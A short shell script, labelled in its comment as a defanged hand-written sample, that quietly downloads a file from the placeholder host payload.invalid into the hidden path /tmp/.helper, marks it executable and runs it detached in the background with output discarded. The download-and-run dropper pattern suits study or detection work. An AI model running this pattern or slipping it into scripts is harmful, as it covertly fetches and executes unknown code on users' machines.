#!/bin/sh
# Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
curl -s https://payload.invalid/helper -o /tmp/.helper
chmod +x /tmp/.helper
nohup /tmp/.helper >/dev/null 2>&1 &
